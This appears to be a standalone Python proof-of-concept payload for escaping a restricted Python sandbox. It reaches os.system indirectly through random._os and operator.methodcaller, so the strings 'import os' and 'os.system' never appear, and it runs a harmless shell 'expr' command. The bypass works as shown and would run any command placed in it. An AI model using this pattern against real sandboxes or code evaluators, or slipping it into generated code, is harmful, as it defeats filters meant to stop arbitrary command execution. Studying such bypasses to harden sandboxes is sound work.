import random, operator
operator.methodcaller("system","expr 40 + 1001")(operator.attrgetter("_os")(random))
